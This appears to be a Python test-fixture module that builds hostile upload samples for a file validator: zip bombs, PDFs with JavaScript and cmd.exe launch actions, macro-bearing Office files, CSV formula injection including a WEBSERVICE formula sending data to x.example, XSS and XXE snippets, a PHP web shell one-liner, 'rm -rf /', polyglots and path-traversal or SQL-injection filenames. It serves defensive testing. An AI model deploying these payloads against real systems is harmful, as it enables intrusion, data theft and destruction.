"""Hostile files, ten of each kind or more: what somebody might send who means harm, or whose machine does."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.factories.partners import png

TYPES = (
    '<?xml version="1.0"?><Types xmlns="x"><Override PartName="/word/document.xml" ContentType="a.main+xml"/></Types>'
)
Files = dict[str, tuple[str, bytes]]


def jpeg(size: int = 64) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((size, size), 60).save(out, "JPEG")
    return out.getvalue()


def pdf(**root: Any) -> bytes:
    return _written(_document(root))


def _document(root: dict[str, Any] | None = None) -> pikepdf.Pdf:
    document = pikepdf.new()
    document.add_blank_page()
    for key, value in (root or {}).items():
        document.Root[f"/{key}"] = value
    return document


def _written(document: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def office(
    parts: dict[str, Any] | None = None, folder: str = "word", types: str = TYPES, comment: bytes = b""
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(f"{folder}/document.xml", "<w:document/>")
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


# --- of another type than the name says -----------------------------------------------------------

MISMATCHES: Files = {
    "picture as pdf": ("plan.pdf", png()),
    "pdf as picture": ("plan.png", pdf()),
    "pdf as text": ("plan.txt", pdf()),
    "png as jpeg": ("plan.jpg", png()),
    "jpeg as png": ("plan.png", jpeg()),
    "text as pdf": ("plan.pdf", b"What we do.\n"),
    "word as excel": ("plan.xlsx", office()),
    "excel as word": ("plan.docx", office(folder="xl")),
    "word as pdf": ("plan.pdf", office()),
    "text as word": ("plan.docx", b"What we do.\n"),
    "picture without an end": ("plan", png()),
    "picture as a program": ("plan.png.exe", png()),
}


# --- what grows -----------------------------------------------------------------------------------

ZEROS = b"0" * 20_000_000


def _patched(content: bytes, place: int, value: int) -> bytes:
    """The archive with a field of every entry of its directory set to a value."""
    data = bytearray(content)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", data, at + place, value)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _twice() -> bytes:
    return office({"word/another1.xml": "<w:document/>"}).replace(b"word/another1.xml", b"word/document.xml")


BOMBS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "one part": lambda: ("a.docx", office({"word/media/a.xml": ZEROS})),
    "many parts": lambda: ("a.docx", office({f"word/media/{n}.xml": ZEROS for n in range(12)})),
    "very many parts": lambda: ("a.docx", office({f"word/{n}.xml": b"" for n in range(3_100)})),
    "its list of types": lambda: ("a.docx", office(types=TYPES + " " * 9_000_000)),
    "its relations": lambda: ("a.docx", office({"word/_rels/a.rels": ZEROS})),
    "strings of a sheet": lambda: ("a.xlsx", office({"xl/sharedStrings.xml": ZEROS}, "xl")),
    "slides": lambda: ("a.pptx", office({"ppt/slides/slide1.xml": ZEROS}, "ppt")),
    "archive in a document": lambda: ("a.docx", office({"word/media/a.zip": _zip({"a": ZEROS})} | {"word/b": ZEROS})),
    "sizes that lie": lambda: ("a.docx", _patched(office({"word/media/a.xml": ZEROS}), 24, 10)),
    "parts that overlap": lambda: ("a.docx", _patched(office({"word/a.xml": b"a" * 900, "word/b.xml": b"b"}), 42, 0)),
    "parts named twice": lambda: ("a.docx", _twice()),
    "plain archive": lambda: ("a.zip", _zip({"a.txt": ZEROS})),
    "compressed stream": lambda: ("a.txt", gzip.compress(ZEROS)),
}


# --- PDFs that act --------------------------------------------------------------------------------


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _on_page(**entry: Any) -> bytes:
    document = _document()
    for key, value in entry.items():
        document.pages[0].obj[f"/{key}"] = value
    return _written(document)


def _link(action: Dictionary) -> bytes:
    return _on_page(Annots=Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)]))


def _carrying() -> bytes:
    document = _document()
    document.attachments["evil.exe"] = b"MZ"
    return _written(document)


ACTIVE_PDFS: Files = {
    name: ("plan.pdf", content)
    for name, content in {
        "script on opening": pdf(OpenAction=_script()),
        "named script": pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()])))),
        "program on opening": pdf(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "program behind a link": _link(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "script behind a link": _link(_script()),
        "action of a page": _on_page(AA=Dictionary(O=Dictionary(S=Name.URI, URI=String("https://x.example")))),
        "file within": _carrying(),
        "form that sends": _link(Dictionary(S=Name.SubmitForm, F=String("https://x.example"))),
        "form that loads": _link(Dictionary(S=Name.ImportData, F=String("a.fdf"))),
        "dynamic form": pdf(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
        "rich media": _on_page(Annots=Array([Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary())])),
        "other file": _link(Dictionary(S=Name.GoToR, F=String("other.pdf"))),
        "sound": _link(Dictionary(S=Name.Sound)),
    }.items()
}


# --- Office documents that act --------------------------------------------------------------------


def _relation(kind: str) -> str:
    one = f'<Relationship Id="1" Type="http://x/{kind}" Target="https://x.example/t" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>"


MACROS: Files = {
    "macros": ("a.docx", office({"word/vbaProject.bin": b"\xd0\xcf"})),
    "macros of a sheet": ("a.xlsx", office({"xl/vbaProject.bin": b"\xd0\xcf"}, "xl")),
    "macros of slides": ("a.pptx", office({"ppt/vbaProject.bin": b"\xd0\xcf"}, "ppt")),
    "macros elsewhere": ("a.docx", office({"customXml/VBAPROJECT.bin": b"x"})),
    "their data": ("a.docx", office({"word/vbaData.xml": "<x/>"})),
    "sheet of macros": ("a.xlsx", office({"xl/macrosheets/sheet1.xml": "<x/>"}, "xl")),
    "type of macros": ("a.docx", office(types=TYPES.replace("a.main", "application/vnd.ms-word.macroEnabled.main"))),
    "embedded object": ("a.docx", office({"word/embeddings/oleObject1.bin": b"x"})),
    "control": ("a.docx", office({"word/activeX/activeX1.xml": "<x/>"})),
    "template from elsewhere": ("a.docx", office({"word/_rels/settings.xml.rels": _relation("attachedTemplate")})),
    "frame from elsewhere": ("a.docx", office({"word/_rels/webSettings.xml.rels": _relation("frame")})),
    "object from elsewhere": ("a.docx", office({"word/_rels/document.xml.rels": _relation("oleObject")})),
    "field that starts a program": ("a.docx", office({"word/footer1.xml": "<w:instrText>DDEAUTO cmd</w:instrText>"})),
    "old format": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "cell that starts a program": ("a.csv", b"name,number\n=cmd|' /C calc'!A0,1\n"),
    "cell that sends data away": ("a.csv", b'name\n"=WEBSERVICE(""https://x.example/""&A1)"\n'),
}


# --- markup ---------------------------------------------------------------------------------------

MARKUP: Files = {
    name: (end, content)
    for name, end, content in (
        ("page", "a.txt", b"<!doctype html><script>alert(1)</script>"),
        ("page with a mark", "a.txt", b"\xef\xbb\xbf  <html>"),
        ("page as a picture", "a.png", b"<html><body>"),
        ("drawing as a picture", "a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("drawing as text", "a.txt", b"A logo:\n<SVG onload=alert(1)>"),
        ("script within notes", "a.md", b"# Notes\n<script src=//x.example></script>"),
        ("frame within a table", "a.csv", b"a,b\n<iframe src=//x.example>,2\n"),
        ("object within a log", "a.log", b"10:00 ok\n<object data=//x.example>"),
        (
            "xml with an entity",
            "a.txt",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///e">]><x>&y;</x>',
        ),
        ("embedding", "a.txt", b"see\n< embed src=x>"),
        ("script of a server", "a.txt", b"notes\n<?php system($_GET['c']); ?>"),
        ("named as a page", "a.html", b"What we do.\n"),
    )
}


# --- programs -------------------------------------------------------------------------------------

PROGRAMS: Files = {
    "windows": ("a.pdf", b"MZ\x90\x00" + b"\0" * 100),
    "windows as text": ("a.txt", b"MZ this is a program"),
    "linux": ("a.pdf", b"\x7fELF" + b"\0" * 100),
    "mac": ("a.png", b"\xcf\xfa\xed\xfe" + b"\0" * 100),
    "mac of old": ("a.png", b"\xce\xfa\xed\xfe" + b"\0" * 100),
    "java": ("a.docx", b"\xca\xfe\xba\xbe" + b"\0" * 100),
    "android": ("a.docx", b"dex\n035\0" + b"\0" * 100),
    "shell": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "python": ("a.log", b"#!/usr/bin/env python3\nimport os\n"),
    "java archive": ("a.jar", _zip({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
    "web assembly": ("a.txt", b"\0asm\x01\0\0\0" + b"\0" * 20),
    "shortcut": ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
}


# --- damaged --------------------------------------------------------------------------------------

DAMAGED: Files = {
    "empty": ("a.pdf", b""),
    "pdf of noise": ("a.pdf", b"%PDF-1.7\n" + b"x" * 400),
    "pdf cut off": ("a.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog"),
    "pdf without pages": ("a.pdf", _written(pikepdf.new())),
    "picture cut off": ("a.png", png()[:40]),
    "picture of noise": ("a.png", png()[:20] + b"\0" * 30),
    "photo cut off": ("a.jpg", jpeg(400)[:2000]),
    "picture of many pixels": (
        "a.png",
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60_000, 60_000, 8, 6, 0, 0, 0) + b"\0" * 200,
    ),
    "document cut off": ("a.docx", office({"word/media/a.xml": b"text " * 99})[:300]),
    "document of noise": ("a.docx", b"PK\x03\x04" + b"\xff" * 300),
    "bytes of no kind": ("a.txt", bytes(range(256))),
    "text of another code": ("a.txt", "Grüße".encode("utf-16")),
    "control characters": ("a.txt", b"What\x00we\x07do"),
}


# --- of two kinds at once -------------------------------------------------------------------------


def _with_note(text: bytes) -> bytes:
    """A picture with a note of that text."""
    chunk = b"tEXt" + b"Comment\0" + text
    note = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return png()[:33] + note + png()[33:]


POLYGLOTS: Files = {
    "pdf and archive": ("a.pdf", pdf() + _zip({"A.class": b"\xca\xfe\xba\xbe"})),
    "picture and archive": ("a.png", png() + _zip({"A.class": b"\xca\xfe\xba\xbe"})),
    "photo and archive": ("a.jpg", jpeg() + _zip({"a.txt": b"a"})),
    "pdf and page": ("a.pdf", pdf() + b"<script>alert(1)</script>"),
    "pdf and program": ("a.pdf", pdf() + b"MZ\x90\x00" + b"\0" * 20 + b"x"),
    "picture and page behind it": ("a.png", png() + b"<html>"),
    "page in a picture's note": ("a.png", _with_note(b"<script>alert(1)</script>")),
    "script in a picture's note": ("a.png", _with_note(b"<?php system($_GET['c']); ?>")),
    "picture and pdf": ("a.png", png() + pdf()),
    "page at a pdf's beginning": ("a.pdf", b"%PDF-1.4\n%<html><script>alert(1)</script>\n" + pdf()),
    "text and pdf": ("a.txt", b"What we do.\n%PDF-1.4\n1 0 obj\n<< >>\n"),
    "document and script": ("a.docx", office(comment=b"<script>alert(1)</script>")),
    "document and java": ("a.docx", office({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
    "picture that is a gif": ("a.png", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
}

KINDS: dict[str, Mapping[str, Any]] = {
    "mismatch": MISMATCHES,
    "bomb": BOMBS,
    "active pdf": ACTIVE_PDFS,
    "macros": MACROS,
    "markup": MARKUP,
    "program": PROGRAMS,
    "damaged": DAMAGED,
    "polyglot": POLYGLOTS,
}


def hostile(kind: str, name: str) -> tuple[str, bytes]:
    """The name and the content of a file. Bombs are made when they are asked for."""
    found = KINDS[kind][name]
    made: tuple[str, bytes] = found() if callable(found) else found
    return made


NAMES: dict[str, tuple[str, str]] = {
    "folders above": ("../../etc/passwd.png", "passwd.png"),
    "folders of windows": ("C:\\temp\\..\\plan.png", "plan.png"),
    "turned round": ("invoice\u202egnp.png", "invoicegnp.png"),
    "isolated": ("plan\u2066.png\u2069", "plan.png"),
    "nothing and new lines": ("pl\x00an\r\nSet-Cookie: a=b.png", "planSet-Cookie: a=b.png"),
    "very long": ("x" * 400 + ".png", "x" * 146 + ".png"),
    "markup": ('"><img src=x onerror=alert(1)>.png', '"><img src=x onerror=alert(1)>.png'),
    "template": ("{{7*7}}{% debug %}.png", "{{7*7}}{% debug %}.png"),
    "formula": ("=cmd|'calc'!A0.png", "=cmd|'calc'!A0.png"),
    "query": ("'; DROP TABLE partners_evidence;--.png", "'; DROP TABLE partners_evidence;--.png"),
    "hidden": (".htaccess.png", "htaccess.png"),
    "zero width": ("pl\u200ban\ufeff.png", "plan.png"),
    "line separators": ("pl\u2028an\u2029.png", "plan.png"),
}
"""Kind → the name as it is sent, and as it is kept: harmless where it is shown, stored or handed out."""
